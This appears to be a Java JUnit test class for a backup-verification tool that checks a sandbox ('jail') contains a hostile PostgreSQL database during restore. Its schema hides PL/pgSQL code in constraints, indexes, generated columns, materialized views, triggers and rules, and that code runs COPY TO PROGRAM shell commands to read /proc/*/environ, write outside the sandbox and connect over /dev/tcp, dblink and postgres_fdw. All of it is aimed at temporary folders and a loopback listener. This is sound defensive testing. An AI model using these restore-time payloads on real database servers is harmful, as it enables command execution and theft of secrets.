package dev.belay.datastores.postgresql.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import dev.belay.datastores.CheckDepth;
import dev.belay.datastores.CheckResult;
import dev.belay.datastores.CheckResult.Outcome;
import dev.belay.datastores.ProgressListener;
import dev.belay.datastores.RequiredCheck;
import dev.belay.datastores.RestoreResult;
import dev.belay.datastores.SandboxRequest;
import dev.belay.datastores.StoreConnection;
import dev.belay.datastores.postgresql.PostgresDriver;
import dev.belay.datastores.postgresql.testing.Databases;
import dev.belay.datastores.postgresql.testing.Requests;
import dev.belay.datastores.postgresql.testing.SharedPostgres;
import dev.belay.datastores.testing.MemoryVault;
import dev.belay.jail.Isolation;
import dev.belay.vault.Manifest;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * A database whose owner wants to get onto the machine that verifies its backups. Wherever a schema
 * can hold code that a restore runs, this one tries to write a file outside of the sandbox, to read
 * the verifier's environment and files, and to talk to the network; what it sees it writes into its
 * own folder, so that the test sees that it was run.
 */
@ExtendWith(SharedPostgres.class)
abstract class HostileSchema {
  static final List<String> WAYS = List.of("check", "domain", "index", "generated", "matview");

  private static final int FIRST_WITH_LOGIN_TRIGGERS = 17;

  /** Runs as whoever restores: a file outside, the environment, the network, a large object. */
  private static final String ATTACK =
      """
      CREATE OR REPLACE FUNCTION public.attack(way text) RETURNS boolean LANGUAGE plpgsql AS $body$
      DECLARE
        object oid;
        command text;
      BEGIN
        RAISE LOG 'attack by %% as a superuser: %%', way,
          (SELECT rolsuper FROM pg_roles WHERE rolname = current_user);
        FOREACH command IN ARRAY ARRAY[
            format('echo run > ran-%%s', way),
            format('echo broken > %1$s/file-%%s', way),
            format('cat /proc/*/environ > seen-environment-%%s 2>&1', way),
            format('ls %1$s > seen-folder-%%s 2>&1', way),
            format('bash -c "echo %%s > /dev/tcp/127.0.0.1/%2$d"', way)] LOOP
          BEGIN
            EXECUTE format('COPY (SELECT 1) TO PROGRAM %%L', command);
          EXCEPTION WHEN OTHERS THEN NULL;
          END;
        END LOOP;
        BEGIN
          object := lo_from_bytea(0, 'broken');
          PERFORM lo_export(object, format('%1$s/large-object-%%s', way));
          PERFORM lo_unlink(object);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
          PERFORM public.dblink_connect('host=127.0.0.1 port=%2$d dbname=x user=x password=x connect_timeout=3');
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        RETURN true;
      END
      $body$
      """;

  @TempDir Path temporary;
  final PostgresDriver driver = new PostgresDriver(Clock.systemUTC());
  final MemoryVault vault = new MemoryVault();
  final AtomicInteger connections = new AtomicInteger();
  ServerSocket listener;
  Path outside;

  @BeforeEach
  void listen() throws IOException {
    outside = Files.createDirectory(temporary.resolve("outside"));
    Files.writeString(outside.resolve("vault-key"), "secret");
    // Nothing but the jail is in its way.
    Files.setPosixFilePermissions(temporary, PosixFilePermissions.fromString("rwxrwxrwx"));
    Files.setPosixFilePermissions(outside, PosixFilePermissions.fromString("rwxrwxrwx"));
    listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    Thread.ofVirtual()
        .start(
            () -> {
              while (!listener.isClosed()) {
                try {
                  listener.accept().close();
                  connections.incrementAndGet();
                } catch (IOException e) {
                  return;
                }
              }
            });
  }

  @AfterEach
  void stopListening() throws IOException {
    listener.close();
  }

  @Test
  void itIsVerifiedInAJailAndReachesNothing(Databases databases) throws Exception {
    Manifest point = capture(hostile(databases));

    try (PostgresSandbox sandbox = open(point, jail())) {
      RestoreResult restored = driver.restore(point, vault, sandbox, ProgressListener.NONE);
      List<CheckResult> checks =
          driver.check(point, sandbox, CheckDepth.FULL, ProgressListener.NONE);

      assertVerified(point, checks);
      assertThat(restored.warnings()).anyMatch(it -> it.contains("from_elsewhere"));
      assertThat(attacks(sandbox)).containsExactlyInAnyOrderElementsOf(asOrdinaryRoles(databases));
      assertThat(filesIn(sandbox.directory().resolve("data")))
          .noneMatch(file -> file.startsWith("ran-"));
      assertThat(sandbox.description()).contains(jail().description());
    }
    assertThat(filesIn(outside)).containsExactly("vault-key");
    assertThat(connections).hasValue(0);
  }

  /** The jail is what holds where a superuser calls the code, as a rehearsal's program does. */
  @Test
  void aSuperuserInTheJailReachesNothing(Databases databases) throws Exception {
    Manifest point = capture(hostile(databases));

    try (PostgresSandbox sandbox = open(point, jail())) {
      driver.restore(point, vault, sandbox, ProgressListener.NONE);
      attackAll(sandbox.connection());

      assertThat(filesIn(sandbox.directory().resolve("data")))
          .containsAll(WAYS.stream().map(way -> "ran-" + way).toList());
      assertThat(seen(sandbox))
          .contains("PWD=")
          .doesNotContain("vault-key", "JAVA", "MAVEN", "DOCKER");
    }
    assertThat(filesIn(outside)).containsExactly("vault-key");
    assertThat(connections).hasValue(0);
  }

  static void attackAll(StoreConnection superuser) {
    WAYS.forEach(way -> Databases.query(superuser, "SELECT public.attack('" + way + "')"));
  }

  /** A role of Belay's that asks a view logs in; no superuser of its does. */
  static List<String> asOrdinaryRoles(Databases databases) {
    Stream<String> login =
        databases.server().major() >= FIRST_WITH_LOGIN_TRIGGERS ? Stream.of("login") : Stream.of();
    return Stream.concat(WAYS.stream(), login)
        .map(way -> "attack by " + way + " as a superuser: f")
        .toList();
  }

  /** What the server's log tells of them, each once. */
  static List<String> attacks(PostgresSandbox sandbox) throws IOException {
    return Files.readAllLines(sandbox.directory().resolve("server.log")).stream()
        .filter(line -> line.contains("attack by "))
        .map(line -> line.substring(line.indexOf("attack by ")).strip())
        .distinct()
        .toList();
  }

  /** What is tried. */
  abstract Isolation jail() throws Exception;

  PostgresSandbox open(Manifest point, Isolation isolation) throws Exception {
    return PostgresSandbox.open(new SandboxRequest(point, temporary.resolve("sandbox"), isolation));
  }

  void assertVerified(Manifest point, List<CheckResult> checks) throws Exception {
    for (RequiredCheck required : driver.requiredChecks(point, CheckDepth.FULL)) {
      assertThat(checks.stream().filter(required::isAnsweredBy))
          .as(required.toString())
          .isNotEmpty()
          .allMatch(check -> check.outcome() == Outcome.PASSED);
    }
    assertThat(checks).noneMatch(check -> check.outcome() == Outcome.FAILED);
  }

  private static String seen(PostgresSandbox sandbox) throws IOException {
    StringBuilder seen = new StringBuilder();
    for (String way : WAYS) {
      for (String what : List.of("environment", "folder")) {
        Path file = sandbox.directory().resolve("data/seen-" + what + "-" + way);
        seen.append(Files.readString(file, java.nio.charset.StandardCharsets.ISO_8859_1));
      }
    }
    return seen.toString();
  }

  static List<String> filesIn(Path folder) throws IOException {
    try (Stream<Path> files = Files.list(folder)) {
      return files.map(file -> String.valueOf(file.getFileName())).sorted().toList();
    }
  }

  Manifest capture(StoreConnection source) throws Exception {
    return driver.capture(Requests.of(source), vault, ProgressListener.NONE);
  }

  /** Harmless while it is filled, so that only the restore runs the attack. */
  StoreConnection hostile(Databases databases) {
    StoreConnection source = databases.create();
    String database = source.name();
    Databases.sql(
        source,
        "CREATE EXTENSION dblink SCHEMA public",
        "CREATE EXTENSION postgres_fdw SCHEMA public",
        "CREATE FUNCTION public.attack(way text) RETURNS boolean LANGUAGE sql AS 'SELECT true'",
        "CREATE FUNCTION public.quietly(way text, n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS"
            + " 'BEGIN PERFORM public.attack(way); RETURN n; END'",
        "CREATE FUNCTION public.on_row() RETURNS trigger LANGUAGE plpgsql AS"
            + " 'BEGIN PERFORM public.attack(''trigger''); RETURN NEW; END'",
        "CREATE FUNCTION public.on_command() RETURNS event_trigger LANGUAGE plpgsql AS"
            + " 'BEGIN PERFORM public.attack(''event''); END'",
        "CREATE DOMAIN public.positive AS int CHECK (VALUE > 0 AND public.attack('domain'))",
        """
        CREATE TABLE public.bait (
          id int CHECK (public.attack('check')),
          n public.positive,
          twice int GENERATED ALWAYS AS (public.quietly('generated', id)) STORED)
        """,
        "INSERT INTO public.bait (id, n) SELECT i, i FROM generate_series(1, 3) i",
        "CREATE INDEX ON public.bait (public.quietly('index', id))",
        "CREATE MATERIALIZED VIEW public.view AS"
            + " SELECT id FROM public.bait WHERE public.attack('matview')",
        // A constraint trigger fires for what a restore does only where it is told to fire always.
        "CREATE TABLE public.parent (id int PRIMARY KEY DEFAULT public.quietly('default', 1))",
        "INSERT INTO public.parent VALUES (1)",
        "CREATE TRIGGER on_row BEFORE INSERT ON public.parent"
            + " FOR EACH ROW EXECUTE FUNCTION public.on_row()",
        "ALTER TABLE public.parent ENABLE ALWAYS TRIGGER on_row",
        "CREATE RULE on_update AS ON UPDATE TO public.parent DO ALSO SELECT public.attack('rule')",
        "CREATE SERVER here FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '"
            + databases.server().port()
            + "', dbname '"
            + database
            + "')",
        "CREATE USER MAPPING FOR CURRENT_USER SERVER here OPTIONS (user 'belay', password '"
            + dev.belay.datastores.postgresql.session.PostgresAddress.password(source).reveal()
            + "')",
        "CREATE FOREIGN TABLE public.elsewhere (id int) SERVER here"
            + " OPTIONS (schema_name 'public', table_name 'parent')",
        "CREATE MATERIALIZED VIEW public.from_elsewhere AS SELECT * FROM public.elsewhere",
        "CREATE MATERIALIZED VIEW public.of_that AS SELECT * FROM public.from_elsewhere",
        "ALTER SERVER here OPTIONS (SET port '" + listener.getLocalPort() + "')",
        ATTACK.formatted(outside, listener.getLocalPort()));
    if (databases.server().major() >= FIRST_WITH_LOGIN_TRIGGERS) {
      Databases.sql(
          source,
          "CREATE FUNCTION public.on_login() RETURNS event_trigger LANGUAGE plpgsql AS"
              + " 'BEGIN IF current_database() = ''restored'' THEN"
              + " PERFORM public.attack(''login''); END IF; END'",
          "CREATE EVENT TRIGGER on_login ON login EXECUTE FUNCTION public.on_login()",
          "ALTER EVENT TRIGGER on_login ENABLE ALWAYS");
    }
    Databases.sql(
        source,
        "CREATE EVENT TRIGGER on_command ON ddl_command_end EXECUTE FUNCTION public.on_command()",
        "ALTER EVENT TRIGGER on_command ENABLE ALWAYS");
    return source;
  }
}
